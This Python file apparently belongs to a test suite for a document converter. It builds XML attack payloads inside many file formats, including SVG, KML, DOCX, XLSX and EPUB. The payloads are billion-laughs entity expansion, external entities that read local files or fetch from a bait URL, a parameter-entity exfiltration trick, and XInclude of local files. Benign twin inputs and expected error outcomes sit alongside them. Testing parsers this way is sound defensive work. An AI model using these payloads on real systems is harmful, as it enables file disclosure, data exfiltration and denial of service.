# ruff: noqa: E501 - a payload reads best in one piece
"""One XML trick in every format that has XML in it (recipe 4)."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from makers.attack import CONVERTED, Attack, Bait, Twin, ends
from makers.packages import XML, docx, epub, opendocument, xlsx, zipped

Carrier = Callable[[str, str], bytes]
"""Of a document type declaration and of text that goes where text goes."""


def _plain(root: str) -> Carrier:
    return lambda prologue, use: (XML + prologue + root.replace("{}", use)).encode()


_FB2 = (
    '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><description><title-info><book-title>T</book-title>'
    "</title-info></description><body><section><p>Harmless {}</p></section></body></FictionBook>"
)
_KML = (
    '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>Harmless {}</name><Point><coordinates>1,2'
    "</coordinates></Point></Placemark></Document></kml>"
)
_GPX = (
    '<gpx xmlns="http://www.topografix.com/GPX/1/1" version="1.1" creator="x"><wpt lat="1" lon="2"><name>Harmless {}</name>'
    "</wpt></gpx>"
)
_TTML = '<tt xmlns="http://www.w3.org/ns/ttml" xml:lang="en"><body><div><p begin="0s" end="1s">Harmless {}</p></div></body></tt>'
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><text y="20">Harmless {}</text></svg>'
_OPML = '<opml version="2.0"><head><title>T</title></head><body><outline text="Harmless {}"/></body></opml>'
_OPML_SAFE = '<opml version="2.0"><head><title>{}</title></head><body><outline text="Harmless"/></body></opml>'
_DOCBOOK = (
    '<article xmlns="http://docbook.org/ns/docbook" version="5.0"><title>T</title><para>Harmless {}</para></article>'
)
_GML = (
    '<f:FeatureCollection xmlns:f="http://ogr.maptools.org/" xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><f:a>'
    "<f:g><gml:Point><gml:coordinates>1,2</gml:coordinates></gml:Point></f:g><f:n>Harmless {}</f:n></f:a>"
    "</gml:featureMember></f:FeatureCollection>"
)

CARRIERS: dict[str, tuple[Carrier, tuple[str, ...]]] = {
    "svg": (_plain(_SVG), ("png", "pdf")),
    "xml": (_plain("<a><b>Harmless {}</b></a>"), ("json", "yaml")),
    "fb2": (_plain(_FB2), ("html", "pdf")),
    "kml": (_plain(_KML), ("geojson",)),
    "kmz": (lambda prologue, use: zipped({"doc.kml": XML + prologue + _KML.replace("{}", use)}), ("geojson",)),
    "gpx": (_plain(_GPX), ("geojson",)),
    "gml": (_plain(_GML), ("geojson",)),
    "ttml": (_plain(_TTML), ("srt",)),
    "opml": (_plain(_OPML_SAFE), ("md",)),
    "docbook": (_plain(_DOCBOOK), ("md",)),
    "docx": (lambda prologue, use: docx(f"<w:p><w:r><w:t>{use}</w:t></w:r></w:p>", prologue=prologue), ("pdf", "md")),
    "xlsx": (lambda prologue, use: xlsx(prologue=prologue, strings=f"Harmless {use}"), ("csv", "pdf")),
    "odt": (
        lambda prologue, use: opendocument("text", f"<text:p>Harmless {use}</text:p>", prologue=prologue),
        ("pdf", "md"),
    ),
    "epub": (lambda prologue, use: epub("", container=prologue), ("html",)),
}
_LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11))
_ANSWERS = ends(CONVERTED, "corrupt_input", "unsupported_format", "type_mismatch", "resource_limit", "timeout")


def _laughs(carrier: Carrier, bait: Bait) -> bytes:
    return carrier(f"<!DOCTYPE x [{_LAUGHS}]>", "&l10;")


def _outside(carrier: Carrier, bait: Bait) -> bytes:
    """General and parameter entities, from the file system and from the network, and the trick that sends one by the other."""
    dtd = (
        f'<!ENTITY f SYSTEM "file://{bait.file}"><!ENTITY r SYSTEM "../../../canary.txt"><!ENTITY h SYSTEM "{bait.url}/e">'
        f'<!ENTITY % p SYSTEM "{bait.url}/p.dtd"> %p;'
    )
    return carrier(f"<!DOCTYPE x [{dtd}]>", "&f;&r;&h;")


def _doctype(carrier: Carrier, bait: Bait) -> bytes:
    """An external subset, a style sheet and a schema."""
    outside = (
        f'<?xml-stylesheet type="text/xsl" href="{bait.url}/s.xsl"?><!DOCTYPE x PUBLIC "-//X//X" "{bait.url}/x.dtd">'
    )
    return carrier(
        outside, f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://{bait.file}"/>'
    )


def _name(extension: str) -> str:
    return "a.dbk" if extension == "docbook" else f"a.{extension}"


ATTACKS = tuple(
    Attack(f"{trick}-{form}", _name(form), partial(make, carrier), targets, ("B22" if form == "svg" else "B23",), _ANSWERS,
           form if form in {"docbook", "ttml", "xml"} else None)
    for form, (carrier, targets) in CARRIERS.items()
    for trick, make in (("laughs", _laughs), ("outside", _outside), ("doctype", _doctype))
)  # fmt: skip

TWINS = tuple(
    Twin(f"{form} without a declaration", _name(form), partial(carrier, "", "and true"), targets[0],
         "" if targets[0] in {"png", "jpg"} or form == "svg" else "Harmless", ("B23",))
    for form, (carrier, targets) in CARRIERS.items()
    if form not in {"opml", "epub", "docbook", "docx", "xlsx", "odt"}
)  # fmt: skip
